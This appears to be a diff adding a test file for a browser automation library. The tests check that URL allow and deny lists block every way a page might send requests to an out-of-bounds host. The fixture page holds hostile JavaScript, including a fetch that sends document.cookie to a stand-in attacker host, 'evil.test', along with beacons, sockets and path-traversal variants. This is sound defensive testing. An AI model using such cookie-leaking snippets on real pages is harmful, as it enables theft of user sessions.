@@ -1,0 +1,306 @@
+"""Nothing leaves for what the lists do not allow, whatever a page does (threat T5)."""
+
+import re
+from collections.abc import AsyncGenerator
+from contextlib import asynccontextmanager, suppress
+
+import attrs
+import pytest
+import trio
+
+from tabwright import Tabwright
+from tabwright.cdp.chromium.finding import PREFERENCE, SHELL, find_browser
+from tabwright.cdp.chromium.plan import LaunchPlan
+from tabwright.cdp.chromium.process import launch
+from tabwright.protocol.actions import Click, Press
+from tabwright.protocol.errors import BadInput, Effect, TabwrightError
+from tabwright.protocol.outlines import OutlineView, TakeOutline
+from tabwright.protocol.reading import Reading
+from tabwright.protocol.sessions import ChangeTabs
+from tabwright.testing.replica.server import Response, redirect
+
+from .conftest import Web
+
+pytestmark = pytest.mark.chromium
+
+WHOLE = TakeOutline(OutlineView(max_tokens=0))
+
+TRICKS = """
+<img src="BASE/img"><iframe src="BASE/frame"></iframe><script src="BASE/script"></script>
+<iframe srcdoc="<img src='BASE/srcdoc'>"></iframe><video src="BASE/video"></video>
+<iframe src="data:text/html,<meta http-equiv=refresh content='0;url=BASE/refresh'>"></iframe>
+<iframe name=in-KEY></iframe>
+<form id=form-KEY action="BASE/form" method=post target=in-KEY><input name=a value=b></form>
+<script>
+  fetch("BASE/fetch?" + document.cookie, {mode: "no-cors"}).catch(() => 0);
+  navigator.sendBeacon("BASE/beacon", "x");
+  new EventSource("BASE/events");
+  new WebSocket("BASE/socket".replace("http", "ws"));
+  new Worker("/KEY-worker");
+  new SharedWorker("/KEY-shared-worker");
+  document.getElementById("form-KEY").submit();
+</script>
+"""
+
+WAYS = {
+    *("img", "frame", "script", "srcdoc", "video", "refresh", "form", "fetch", "beacon"),
+    *("events", "socket", "worker", "shared-worker"),
+}
+"""What a page of `TRICKS` asks for where nobody stops it."""
+
+OUT, IN = "evil.test", "ok.test"
+
+READ_BYTES = 65536
+
+
+@attrs.frozen(eq=False)
+class Names:
+    """A web of many names, all of which lead to one server."""
+
+    web: Web
+
+    @property
+    def rules(self) -> str:
+        return f"--host-resolver-rules=MAP *.test 127.0.0.1:{self.web.port}"
+
+    def put_tricks(self) -> None:
+        """A page that tries all for a host out of bounds first, and then for one within."""
+        tried: list[str] = []
+        for host in (OUT, IN):
+            tried.append(TRICKS.replace("BASE", f"http://{host}").replace("KEY", host))
+            for worker in ("worker", "shared-worker"):
+                script = f"fetch('http://{host}/{worker}', {{mode: 'no-cors'}})"
+                kind = "text/javascript"
+                self.web.pages[f"/{host}-{worker}"] = Response(script.encode(), content_type=kind)
+        self.web.put("/tricks", "<h1>Tricks</h1>" + "".join(tried))
+
+    def asked(self, host: str) -> set[str]:
+        """The paths of a host that were asked for, without what stands behind their first part."""
+        paths = (seen.path for seen in self.web.log if seen.host.rstrip(".") == host)
+        return {re.split(r"[/?]", path)[1] for path in paths}
+
+    async def until_all_is_tried(self) -> None:
+        with trio.fail_after(30):
+            while not self.asked(IN) >= WAYS:
+                await trio.sleep(0.05)
+
+
+@pytest.fixture
+def names(web: Web) -> Names:
+    return Names(web)
+
+
+async def relayed(source: trio.SocketStream, drain: trio.SocketStream) -> None:
+    with suppress(trio.BrokenResourceError, trio.ClosedResourceError):
+        while data := await source.receive_some(READ_BYTES):
+            await drain.send_all(data)
+        await drain.send_eof()
+
+
+@asynccontextmanager
+async def open_proxy(port: int, asked: list[str]) -> AsyncGenerator[str]:
+    """An HTTP proxy behind which one port of this machine is the whole web."""
+
+    async def serve(client: trio.SocketStream) -> None:
+        async with client, await trio.open_tcp_stream("127.0.0.1", port) as site:
+            head = b""
+            while b"\r\n\r\n" not in head:
+                piece = await client.receive_some(READ_BYTES)
+                if not piece:
+                    return
+                head += piece
+            method, url, _ = head.split(b" ", 2)
+            asked.append(url.decode())
+            if method == b"CONNECT":
+                await client.send_all(b"HTTP/1.1 200 Connection established\r\n\r\n")
+            else:
+                await site.send_all(re.sub(rb" http://[^/ ]+", b" ", head, count=1))
+            async with trio.open_nursery() as both:
+                both.start_soon(relayed, client, site)
+                both.start_soon(relayed, site, client)
+
+    async with trio.open_nursery() as nursery:
+        listeners = await nursery.start(trio.serve_tcp, serve, 0)
+        yield f"http://127.0.0.1:{listeners[0].socket.getsockname()[1]}"
+        nursery.cancel_scope.cancel()
+
+
+BROWSERS = {"whole": PREFERENCE, "shell": (SHELL, *PREFERENCE)}
+LISTS = {
+    "allowed": {"network__allow_urls": [IN]},
+    "denied": {"network__deny_urls": [f"*.{OUT}"]},
+    "paths": {"network__allow_urls": [f"{IN}/*"], "network__deny_urls": [f"{OUT}/*"]},
+}
+
+
+@pytest.mark.parametrize("lists", LISTS)
+@pytest.mark.parametrize("order", BROWSERS)
+async def test_requests_of_a_page_out_of_bounds_are_never_sent(order, lists, names, open_house):
+    names.put_tricks()
+    settings = {
+        "browser__order": BROWSERS[order],
+        "browser__extra_args": [names.rules],
+        **LISTS[lists],
+    }
+    async with open_house(**settings) as house:
+        await house.enter("http://ok.test/tricks", session="s")
+        await names.until_all_is_tried()
+        assert "Tricks" in (await house.act(WHOLE, session="s")).text
+    assert names.asked(OUT) == set()
+
+
+@pytest.mark.parametrize("tier", [2, 3])
+async def test_requests_of_a_page_that_is_read_are_never_sent_either(tier, names, open_house):
+    names.put_tricks()
+    settings = {"browser__extra_args": [names.rules], "network__allow_urls": [IN]}
+    async with open_house(browser__order=BROWSERS["shell"], **settings) as house:
+        page = await house.browse("http://ok.test/tricks", Reading(min_tier=tier, max_tier=tier))
+        assert "Tricks" in page.text
+    assert "fetch" in names.asked(IN)
+    assert names.asked(OUT) == set()
+
+
+async def test_without_lists_all_of_it_is_sent(names, open_house):
+    names.put_tricks()
+    async with open_house(browser__extra_args=[names.rules]) as house:
+        await house.enter("http://ok.test/tricks", session="s")
+        await names.until_all_is_tried()
+        with trio.fail_after(30):
+            while not names.asked(OUT) >= WAYS:
+                await trio.sleep(0.05)
+
+
+@pytest.mark.parametrize("lists", ["allowed", "paths"])
+async def test_lists_hold_where_a_proxy_is_in_between(lists, names, open_house, monkeypatch):
+    monkeypatch.delenv("NO_PROXY")
+    names.put_tricks()
+    asked: list[str] = []
+    async with open_proxy(names.web.port, asked) as proxy:
+        settings = {**LISTS[lists], "network__proxy": proxy}
+        async with open_house(browser__order=BROWSERS["shell"], **settings) as house:
+            await house.enter("http://ok.test/tricks", session="s")
+            await names.until_all_is_tried()
+    assert names.asked(OUT) == set()
+    assert not [url for url in asked if url.removeprefix("http://").startswith(OUT)]
+    assert "ok.test:80" in asked  # the tunnel of the WebSocket
+
+
+async def test_lists_hold_without_the_guard_for_all_but_web_sockets(names, open_house):
+    names.put_tricks()
+    settings = {**LISTS["allowed"], "network__guard": False}
+    async with open_house(browser__extra_args=[names.rules], **settings) as house:
+        await house.enter("http://ok.test/tricks", session="s")
+        await names.until_all_is_tried()
+    assert names.asked(OUT) <= {"socket"}
+
+
+async def test_lists_hold_in_a_browser_that_is_connected_to(names, open_house):
+    names.put_tricks()
+    plan = LaunchPlan(
+        path=find_browser(PREFERENCE).path, link="websocket", extra_args=(names.rules,)
+    )
+    async with launch(plan) as chromium:
+        settings = {**LISTS["allowed"], "browser__cdp_endpoint": chromium.endpoint}
+        async with open_house(**settings) as house:
+            await house.enter("http://ok.test/tricks", session="s")
+            await names.until_all_is_tried()
+            page = await house.browse("http://ok.test/tricks", Reading(min_tier=2))
+            assert "Tricks" in page.text
+    assert names.asked(OUT) <= {"socket"}
+
+
+DOORS = {
+    "link": '<a href="{url}">Go</a>',
+    "window": '<a href="{url}" target=_blank>Go</a>',
+    "no opener": '<a href="{url}" target=_blank rel=noopener>Go</a>',
+    "form": '<form method=post action="{url}"><input name=a value=b><button>Go</button></form>',
+    "script": """<button onclick="location = '{url}'">Go</button>""",
+    "fetch": """<button onclick="fetch('{url}', {{method: 'POST'}})">Go</button>""",
+}
+
+
+async def pressed(house: Tabwright, *, by_key: bool = False) -> TabwrightError | None:
+    """Presses the last control of the page; what went wrong, if anything did."""
+    outline = await house.act(WHOLE, session="s")
+    ref = outline.controls[-1].ref
+    press = Press("Enter", ref) if by_key else Click(ref)
+    try:
+        await house.act(press, session="s")
+    except TabwrightError as error:
+        return error
+    return None
+
+
+@pytest.mark.parametrize("order", BROWSERS)
+async def test_press_that_leads_out_of_bounds_sends_nothing(order, names, open_house):
+    settings = {"browser__order": BROWSERS[order], "browser__extra_args": [names.rules]}
+    async with open_house(**settings, **LISTS["allowed"]) as house:
+        for door in DOORS.values():
+            for by_key in (False, True):
+                names.web.put("/", "<h1>Here</h1>" + door.format(url="http://evil.test/a"))
+                await house.enter("http://ok.test/", session="s")
+                error = await pressed(house, by_key=by_key)
+                assert error is None or (error.kind, error.effect) == ("bad_input", Effect.UNKNOWN)
+                assert "# Here" in (await house.act(WHOLE, session="s")).text
+                tabs = await house.sessions.ask(ChangeTabs("s"))
+                assert [tab.url for tab in tabs] == ["http://ok.test/"]
+    assert names.asked(OUT) == set()
+
+
+@pytest.mark.parametrize("door", ["link", "form", "script"])
+async def test_press_that_is_sent_on_out_of_bounds_may_have_had_an_effect(door, names, open_house):
+    names.web.pages["/away"] = redirect("http://evil.test/a", status=307)
+    async with open_house(browser__extra_args=[names.rules], **LISTS["allowed"]) as house:
+        names.web.put("/", DOORS[door].format(url="/away"))
+        await house.enter("http://ok.test/", session="s")
+        error = await pressed(house)
+        assert error is not None
+        assert (error.kind, error.effect) == ("bad_input", Effect.UNKNOWN)
+        assert "away" in names.asked(IN)
+    assert names.asked(OUT) == set()
+
+
+async def test_navigation_that_is_redirected_out_of_bounds_may_have_had_an_effect(
+    names, open_house
+):
+    names.web.put("/", "<h1>Here</h1>")
+    names.web.pages["/away"] = redirect("http://evil.test/a")
+    async with open_house(browser__extra_args=[names.rules], **LISTS["allowed"]) as house:
+        await house.enter("http://ok.test/", session="s")
+        for asked in (
+            house.enter("http://ok.test/away", session="s"),
+            house.browse("http://ok.test/away", Reading(min_tier=2)),
+        ):
+            with pytest.raises(BadInput, match="allow_urls") as caught:
+                await asked
+            assert caught.value.effect is Effect.UNKNOWN
+        with pytest.raises(BadInput) as caught:
+            await house.enter("http://evil.test/", session="s")
+        assert caught.value.effect is Effect.NONE
+        await house.enter("http://ok.test/", session="s")
+        assert "# Here" in (await house.act(WHOLE, session="s")).text
+    assert names.asked(OUT) == set()
+
+
+async def test_press_after_which_the_site_fails_may_have_had_an_effect(names, open_house):
+    names.web.pages["/broken"] = Response(status=500)
+    async with open_house(browser__extra_args=[names.rules]) as house:
+        for door in ("link", "form"):
+            names.web.put("/", DOORS[door].format(url="/broken"))
+            await house.enter("http://ok.test/", session="s")
+            error = await pressed(house)
+            assert error is None or error.effect is not Effect.NONE
+            assert "broken" in names.asked(IN)
+
+
+async def test_paths_out_of_bounds_are_never_asked_for(names, open_house):
+    links = ("/private/a", "/a/../private/x", "/%70rivate/x", "//ok.test//private/x", "/open/x")
+    body = "".join(f"<iframe src='{link}'></iframe><img src='{link}?i'>" for link in links)
+    names.web.put("/", body + "<script>fetch('/private/f'); fetch('/open/f')</script>")
+    settings = {"browser__extra_args": [names.rules], "network__deny_urls": ["ok.test/private"]}
+    async with open_house(**settings) as house:
+        await house.enter("http://ok.test/", session="s")
+        with trio.fail_after(30):
+            while not {"/open/x", "/open/x?i", "/open/f"} <= {seen.path for seen in names.web.log}:
+                await trio.sleep(0.05)
+    assert not [seen.path for seen in names.web.log if "rivate" in seen.path]
